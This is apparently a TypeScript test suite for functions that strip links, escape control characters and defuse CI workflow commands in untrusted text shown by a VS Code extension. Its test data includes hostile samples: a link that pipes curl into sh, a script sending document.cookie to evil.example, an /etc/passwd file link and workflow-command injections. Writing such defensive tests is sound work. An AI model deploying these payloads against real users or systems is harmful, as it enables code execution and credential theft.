import * as assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { forMarkdown, forMessage, forTerminal } from '../../src/core/untrusted';

/**
 * What VS Code turns into a clickable link in a notification's text (a label in brackets, then
 * an http(s), command or file target in parentheses): the oracle these tests hold the output to.
 */
const RENDERED_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+/i;

describe('untrusted text, made safe to show', () => {
  describe('forMessage (VS Code notifications)', () => {
    const hostile = [
      // The zip entry name of the hardening issue: its "Show Logs" would re-point the base URL.
      '../[Show Logs](command:docsAdmin.baseUrl.set?%5B%22https%3A%2F%2Fevil.example%22%5D)',
      // A server's export error, as reproduced in the playground.
      'Render failed. [Show Logs](command:docsAdmin.baseUrl.set?%5B%22http%3A%2F%2F127.0.0.1%3A47999%22%5D)',
      // A terminal command, a phishing link, a file link, upper case, and a title.
      '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D)',
      'Key rejected: [renew it here](https://evil.example/login)',
      '[open](FILE:///etc/passwd)',
      '[x](https://evil.example "a title")',
      // Split by a line break, which the message renderer would see as one line.
      '[Show Logs]\n(command:docsAdmin.key.clear)',
    ];

    for (const text of hostile) {
      it(`leaves no link in ${JSON.stringify(text.slice(0, 48))}…`, () => {
        assert.match(text.replace(/\n/g, ''), RENDERED_LINK, 'the case itself renders as a link');
        const shown = forMessage(text);
        assert.doesNotMatch(shown, RENDERED_LINK);
        // It still reads the same: every word of the original is there.
        for (const word of text.split(/[^A-Za-z]+/).filter((w) => w.length > 3)) assert.ok(shown.includes(word), `${word} in ${shown}`);
      });
    }

    it('escapes control and invisible characters, and keeps plain text as it is', () => {
      assert.equal(forMessage('Render failed (timeout after 30 s).'), 'Render failed (timeout after 30 s).');
      assert.equal(forMessage('a\u202eb\u0000c\u001b[31m'), 'a\\u202eb\\u0000c\\u001b[31m');
      assert.equal(forMessage('line one\r\nline two\tend'), 'line one line two end');
      assert.equal(forMessage('[brackets] and (parentheses) apart'), '[brackets] and (parentheses) apart');
    });
  });

  describe('forTerminal (the CLI, CI logs)', () => {
    it('shows escape sequences and other control characters as escapes, keeping lines and tabs', () => {
      assert.equal(forTerminal('\u001b]0;pwned\u0007red\u001b[31m\tx\ny'), '\\u001b]0;pwned\\u0007red\\u001b[31m\tx\ny');
      assert.equal(forTerminal('bidi \u202e override, C1 \u009b, DEL \u007f'), 'bidi \\u202e override, C1 \\u009b, DEL \\u007f');
      assert.equal(forTerminal('a\r\nb\rc'), 'a\nb\\u000dc');
    });

    it('defuses workflow commands at the start of any line, keeping the text readable', () => {
      const hostile = ['::set-output name=x::y', 'ok\n  ::add-mask::secret', '::stop-commands::token', '##[error]fake', '##vso[task.setvariable variable=x]y', '##VSO[task.complete]'];
      for (const text of hostile) {
        const shown = forTerminal(text);
        assert.doesNotMatch(shown, /^[ \t]*(::|##\[|##vso\[)/im, shown);
        assert.equal(shown.replace(/\u200b/g, ''), text);
      }
      // Not at the start of a line: left alone.
      assert.equal(forTerminal('error: a::b'), 'error: a::b');
    });
  });

  describe('forMarkdown (a GitHub job summary)', () => {
    // The oracle: markdown-it (already installed with @vscode/vsce), CommonMark with HTML and
    // bare-URL links on, as GitHub renders a summary before its own sanitiser.
    type Renderer = { render(text: string): string };
    const MarkdownIt = createRequire(__filename)('markdown-it') as new (options: object) => Renderer;
    const md = new MarkdownIt({ html: true, linkify: true });
    const decode = (html: string) =>
      html
        .replace(/<\/?p>\n?/g, '')
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#39;/g, "'")
        .replace(/&amp;/g, '&');

    const hostile = [
      '<img src=x onerror=alert(1)>',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      '[Renew your key](https://evil.example/login)',
      '![tracker](https://evil.example/pixel.png)',
      '**urgent** _now_ `code` ~~gone~~',
      '# Heading\n- a list\n| a | table |\n|---|---|',
      'see https://evil.example/x and www.evil.example',
      '<!-- hidden --> &lt;not a tag&gt; &copy;',
      '1. numbered :rocket: \\ backslash',
    ];

    for (const text of hostile) {
      it(`renders ${JSON.stringify(text.slice(0, 40))} as the same plain text`, () => {
        const html = md.render(forMarkdown(text));
        assert.doesNotMatch(html, /<(?!\/?p>)[a-z!/]/i, html);
        assert.equal(decode(html).trim(), text.replace(/[\r\n\t]+/g, ' '));
      });
    }

    it('is one line, with control characters as escapes, and plain words untouched', () => {
      assert.equal(forMarkdown('Export 42 completed'), 'Export 42 completed');
      assert.doesNotMatch(forMarkdown('a\nb\r\nc\u2028d'), /[\r\n\u2028]/);
      assert.equal(decode(md.render(forMarkdown('a\u001b[31m\u202eb'))).trim(), 'a\\u001b[31m\\u202eb');
    });
  });
});
